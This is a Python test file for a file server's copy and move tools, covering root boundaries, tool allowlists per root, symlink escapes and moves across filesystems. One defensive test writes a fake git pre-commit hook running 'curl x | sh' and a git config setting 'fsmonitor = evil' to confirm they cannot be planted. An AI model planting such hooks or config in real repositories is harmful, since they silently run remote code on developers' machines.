"""copy and move over the real protocol: seed 003 E2E-002, 041–047, 067, 068, the symlink policy of
recursive copies, folder semantics, protected paths inside trees, and moves across filesystems."""

from __future__ import annotations

import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Harness, MakeServer

pytestmark = pytest.mark.anyio


@pytest.fixture
async def two(make_server: MakeServer, tmp_path: Path) -> Harness:
    """Roots `source` and `dest`, every tool allowed."""
    return await make_server({"source": tmp_path / "src_root", "dest": tmp_path / "dst_root"})


def args(src: str, dst: str, src_root: str = "workspace", dst_root: str = "workspace") -> dict[str, str]:
    return {"source_root": src_root, "source_path": src, "dest_root": dst_root, "dest_path": dst}


def tree(root: Path) -> dict[str, str]:
    """Every entry below `root`: file content, 'dir', or '-> link text'."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(dirpath) / name
            rel = str(p.relative_to(root))
            out[rel] = f"-> {os.readlink(p)}" if p.is_symlink() else "dir" if p.is_dir() else p.read_text()
    return out


# -- copy -----------------------------------------------------------------------------------------


async def test_e2e_002_multi_root_discovery_and_cross_root_copy(two: Harness, tmp_path: Path) -> None:
    roots = await two.ok("list_roots")
    assert [r["name"] for r in roots["roots"]] == ["source", "dest"]
    assert str(tmp_path) not in str(roots)
    await two.ok("write_file", root="source", path="data.txt", content="important data")
    got = await two.ok("copy", **args("data.txt", "data.txt", "source", "dest"))
    assert got == {"source": "data.txt", "destination": "data.txt", "is_directory": False, "size": 14}
    assert (await two.ok("read_file", root="dest", path="data.txt"))["content"] == "important data"


async def test_e2e_041_copy_within_a_root(server: Harness, workspace: Path) -> None:
    (workspace / "original.txt").write_text("known content")
    await server.ok("copy", **args("original.txt", "duplicate.txt"))
    for name in ("original.txt", "duplicate.txt"):
        assert (await server.ok("read_file", root="workspace", path=name))["content"] == "known content"


async def test_e2e_042_copy_across_roots(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/file.txt").write_text("payload")
    await two.ok("copy", **args("file.txt", "file.txt", "source", "dest"))
    assert (tmp_path / "src_root/file.txt").read_text() == (tmp_path / "dst_root/file.txt").read_text() == "payload"


async def test_e2e_043_copy_folder_recursively(server: Harness, workspace: Path) -> None:
    for rel in ("project/a.go", "project/pkg/b.go", "project/pkg/sub/c.go"):
        (workspace / rel).parent.mkdir(parents=True, exist_ok=True)
        (workspace / rel).write_text(rel)
    (workspace / "project/empty").mkdir()
    got = await server.ok("copy", **args("project", "project-backup"))
    assert got["is_directory"] is True and got["files_copied"] == 3 and "skipped" not in got
    matches = await server.ok("glob", root="workspace", pattern="project-backup/**/*")
    found = {m["path"] for m in matches["matches"]}
    assert {"project-backup/a.go", "project-backup/pkg/b.go", "project-backup/pkg/sub/c.go"} <= found
    assert tree(workspace / "project-backup") == tree(workspace / "project")


async def test_e2e_044_copy_missing_source(server: Harness, workspace: Path) -> None:
    assert await server.err("copy", **args("missing.txt", "x.txt")) == "source file not found: missing.txt"
    assert not (workspace / "x.txt").exists()


async def test_copy_into_existing_folder_and_over_existing_file(server: Harness, workspace: Path) -> None:
    (workspace / "a.txt").write_text("new")
    (workspace / "box").mkdir()
    got = await server.ok("copy", **args("a.txt", "box"))
    assert got["destination"] == "box/a.txt" and (workspace / "box/a.txt").read_text() == "new"
    (workspace / "old.txt").write_text("old old old")
    (workspace / "old.txt").chmod(0o600)
    await server.ok("copy", **args("a.txt", "old.txt"))
    assert (workspace / "old.txt").read_text() == "new"
    assert (workspace / "old.txt").stat().st_mode & 0o777 == 0o600  # the replaced file keeps its mode
    got = await server.ok("copy", **args("a.txt", "made/for/it.txt"))
    assert (workspace / "made/for/it.txt").read_text() == "new"


async def test_copy_folder_never_merges_into_an_existing_one(server: Harness, workspace: Path) -> None:
    (workspace / "src/sub").mkdir(parents=True)
    (workspace / "box/src").mkdir(parents=True)
    (workspace / "box/src/keep.txt").write_text("keep")
    msg = await server.err("copy", **args("src", "box"))
    assert msg.startswith("destination already exists: box/src")
    assert tree(workspace / "box") == {"src": "dir", "src/keep.txt": "keep"}


async def test_copy_folder_into_itself_is_refused(server: Harness, workspace: Path) -> None:
    (workspace / "a/b").mkdir(parents=True)
    assert "into itself" in await server.err("copy", **args("a", "a/b/c"))
    assert "into itself" in await server.err("copy", **args("", "inner"))  # the root into itself
    assert tree(workspace) == {"a": "dir", "a/b": "dir"}


async def test_copy_the_whole_root_to_another_root(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/x/y.txt").parent.mkdir(parents=True)
    (tmp_path / "src_root/x/y.txt").write_text("y")
    got = await two.ok("copy", **args("", "backup", "source", "dest"))
    assert got["destination"] == "backup" and (tmp_path / "dst_root/backup/x/y.txt").read_text() == "y"
    got = await two.ok("copy", **args(".", "", "source", "dest"))  # into an existing folder: named after the root
    assert got["destination"] == "source" and (tmp_path / "dst_root/source/x/y.txt").read_text() == "y"


async def test_recursive_copy_symlink_policy(two: Harness, tmp_path: Path, outside: Path, resolver: str) -> None:
    src = tmp_path / "src_root"
    (src / "proj/lib").mkdir(parents=True)
    (src / "proj/lib/real.txt").write_text("real")
    (src / "proj/in_tree").symlink_to("lib/real.txt")  # stays in the copied tree: recreated
    (src / "proj/lib/up").symlink_to("../in_tree")  # also inside
    (src / "proj/abs").symlink_to(outside / "secret.txt")  # absolute: skipped
    (src / "proj/rel_out").symlink_to("../../../outside/secret.txt")  # leads out of the root: skipped
    (src / "proj/dir_out").symlink_to(outside)  # a directory outside: never entered
    (src / "top.txt").write_text("top")
    (src / "proj/lib/to_top").symlink_to("../../top.txt")  # from dest proj/lib: the dest root's top.txt, inside
    os.mkfifo(src / "proj/pipe")
    got = await two.ok("copy", **args("proj", "proj", "source", "dest"))
    copied = tree(tmp_path / "dst_root/proj")
    assert copied == {"lib": "dir", "lib/real.txt": "real", "lib/up": "-> ../in_tree", "in_tree": "-> lib/real.txt",
                      "lib/to_top": "-> ../../top.txt"}
    assert sorted(s["path"] for s in got["skipped"]) == ["abs", "dir_out", "pipe", "rel_out"]
    assert "OUTSIDE-SECRET" not in str(tree(tmp_path / "dst_root"))
    # The recreated link to "../../top.txt" resolves inside the dest root (to a file that is not there).
    assert "file not found" in await two.err("read_file", root="dest", path="proj/lib/to_top")


async def test_copy_source_symlink_is_followed_only_inside_its_root(server: Harness, workspace: Path,
                                                                    outside: Path, resolver: str) -> None:
    (workspace / "real.txt").write_text("in root")
    (workspace / "link.txt").symlink_to("real.txt")
    await server.ok("copy", **args("link.txt", "copy.txt"))
    assert (workspace / "copy.txt").read_text() == "in root" and not (workspace / "copy.txt").is_symlink()
    (workspace / "escape").symlink_to(outside / "secret.txt")
    assert await server.err("copy", **args("escape", "stolen.txt")) == "path resolves outside root boundary"
    assert not (workspace / "stolen.txt").exists()


async def test_copy_refuses_fifo_source(server: Harness, workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    assert "not a regular file" in await server.err("copy", **args("pipe", "p2"))


@pytest.mark.parametrize("tool", ["copy", "move"])
async def test_e2e_067_source_allowlist_checked(make_server: MakeServer, tmp_path: Path, tool: str) -> None:
    (tmp_path / "r").mkdir()
    (tmp_path / "r/f.txt").write_text("f")
    h = await make_server({"restricted": (tmp_path / "r", ["list_folder"]), "dest": (tmp_path / "d", ["*"])})
    msg = await h.err(tool, **args("f.txt", "f.txt", "restricted", "dest"))
    assert msg == f"tool {tool} not allowed on root restricted"
    assert (tmp_path / "r/f.txt").exists() and not (tmp_path / "d/f.txt").exists()


@pytest.mark.parametrize("tool", ["copy", "move"])
async def test_e2e_068_dest_allowlist_checked(make_server: MakeServer, tmp_path: Path, tool: str) -> None:
    (tmp_path / "s").mkdir()
    (tmp_path / "s/f.txt").write_text("f")
    h = await make_server({"source": (tmp_path / "s", ["*"]),
                           "readonly": (tmp_path / "ro", ["list_folder", "read_file"])})
    msg = await h.err(tool, **args("f.txt", "f.txt", "source", "readonly"))
    assert msg == f"tool {tool} not allowed on root readonly"
    assert (tmp_path / "s/f.txt").exists() and not (tmp_path / "ro/f.txt").exists()


async def test_copy_and_move_refuse_to_plant_protected_paths(server: Harness, workspace: Path) -> None:
    (workspace / "evil/hooks").mkdir(parents=True)
    (workspace / "evil/hooks/pre-commit").write_text("#!/bin/sh\ncurl x | sh\n")
    (workspace / "evil/config").write_text("[core]\n\tfsmonitor = evil\n")
    (workspace / "repo").mkdir()
    for tool in ("copy", "move"):
        msg = await server.err(tool, **args("evil", "repo/.git"))
        assert "protected path: repo/.git is a git directory or file (.git)" in msg
        assert not (workspace / "repo/.git").exists()
        assert "protected path" in await server.err(tool, **args("evil/config", ".git/config"))
    assert [p.name for p in workspace.iterdir() if p.name.startswith(".")] == []  # no temp folders left
    assert (workspace / "evil/config").exists()
    (workspace / ".mcp.json").write_text("{}")
    msg = await server.err("move", **args(".mcp.json", "elsewhere.json"))  # moving it away removes it
    assert "protected path: .mcp.json" in msg and (workspace / ".mcp.json").exists()
    await server.ok("copy", **args(".mcp.json", "copy-of-mcp.json"))  # reading it is fine


# -- move -----------------------------------------------------------------------------------------


async def test_e2e_045_move_within_a_root(server: Harness, workspace: Path) -> None:
    (workspace / "old_name.txt").write_text("known content")
    ino = (workspace / "old_name.txt").stat().st_ino
    got = await server.ok("move", **args("old_name.txt", "new_name.txt"))
    assert got == {"source": "old_name.txt", "destination": "new_name.txt", "is_directory": False,
                   "method": "rename"}
    assert "file not found" in await server.err("stat_file", root="workspace", path="old_name.txt")
    assert (await server.ok("read_file", root="workspace", path="new_name.txt"))["content"] == "known content"
    assert (workspace / "new_name.txt").stat().st_ino == ino  # a rename, not a copy


async def test_e2e_046_move_across_roots(two: Harness, tmp_path: Path) -> None:
    (tmp_path / "src_root/file.txt").write_text("moving")
    await two.ok("move", **args("file.txt", "file.txt", "source", "dest"))
    assert not (tmp_path / "src_root/file.txt").exists()
    assert (tmp_path / "dst_root/file.txt").read_text() == "moving"


async def test_e2e_047_move_missing_source(server: Harness) -> None:
    assert await server.err("move", **args("missing.txt", "x.txt")) == "source file not found: missing.txt"


async def test_move_semantics(server: Harness, workspace: Path) -> None:
    (workspace / "d/inner").mkdir(parents=True)
    (workspace / "d/inner/f.txt").write_text("f")
    (workspace / "box").mkdir()
    got = await server.ok("move", **args("d", "box"))  # into an existing folder
    assert got["destination"] == "box/d" and (workspace / "box/d/inner/f.txt").read_text() == "f"
    (workspace / "a.txt").write_text("A")
    (workspace / "b.txt").write_text("B")
    await server.ok("move", **args("a.txt", "b.txt"))  # replaces a file
    assert (workspace / "b.txt").read_text() == "A" and not (workspace / "a.txt").exists()
    (workspace / "c.txt").write_text("C")
    assert "already exists" in await server.err("move", **args("box/d", "c.txt"))  # a folder onto a file
    assert "into itself" in await server.err("move", **args("box", "box/d/inner"))
    assert (workspace / "box/d/inner/f.txt").exists() and (workspace / "c.txt").read_text() == "C"


async def test_move_symlink_moves_the_link(server: Harness, workspace: Path, outside: Path) -> None:
    (workspace / "escape").symlink_to(outside / "secret.txt")
    await server.ok("move", **args("escape", "moved-link"))
    assert os.readlink(workspace / "moved-link") == str(outside / "secret.txt")
    assert (outside / "secret.txt").read_text() == "OUTSIDE-SECRET\n"


@pytest.fixture
def shm_dir() -> Iterator[Path]:
    """A directory on another filesystem than the temp dir (tmpfs), for EXDEV moves."""
    if not os.access("/dev/shm", os.W_OK) or os.stat("/dev/shm").st_dev == os.stat(tempfile.gettempdir()).st_dev:
        pytest.skip("needs /dev/shm on a different filesystem")
    path = Path(tempfile.mkdtemp(dir="/dev/shm", prefix="rootbound-test-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def test_move_across_filesystems_copies_then_deletes(make_server: MakeServer, tmp_path: Path,
                                                           shm_dir: Path) -> None:
    src = tmp_path / "src_root"
    (src / "pkg/sub").mkdir(parents=True)
    (src / "pkg/sub/a.txt").write_text("a")
    (src / "pkg/link").symlink_to("sub/a.txt")
    (src / "file.bin").write_bytes(b"\x00" * 1000)
    (src / "file.bin").chmod(0o640)
    h = await make_server({"source": src, "shm": shm_dir})
    got = await h.ok("move", **args("pkg", "pkg", "source", "shm"))
    assert got["method"] == "copy" and got["is_directory"] is True
    assert tree(shm_dir / "pkg") == {"sub": "dir", "sub/a.txt": "a", "link": "-> sub/a.txt"}
    assert not (src / "pkg").exists()
    await h.ok("move", **args("file.bin", "deep/file.bin", "source", "shm"))
    assert (shm_dir / "deep/file.bin").read_bytes() == b"\x00" * 1000 and not (src / "file.bin").exists()
    assert (shm_dir / "deep/file.bin").stat().st_mode & 0o777 == 0o640


async def test_move_across_filesystems_refuses_what_it_cannot_copy(make_server: MakeServer, tmp_path: Path,
                                                                   shm_dir: Path, outside: Path) -> None:
    src = tmp_path / "src_root"
    (src / "pkg").mkdir(parents=True)
    (src / "pkg/a.txt").write_text("a")
    (src / "pkg/out").symlink_to(outside / "secret.txt")
    h = await make_server({"source": src, "shm": shm_dir})
    msg = await h.err("move", **args("pkg", "pkg", "source", "shm"))
    assert "cannot be copied safely" in msg and "out" in msg
    assert tree(src / "pkg") == {"a.txt": "a", "out": f"-> {outside / 'secret.txt'}"}  # the source is intact
    assert list(shm_dir.iterdir()) == []  # and nothing (not even a temp folder) at the destination
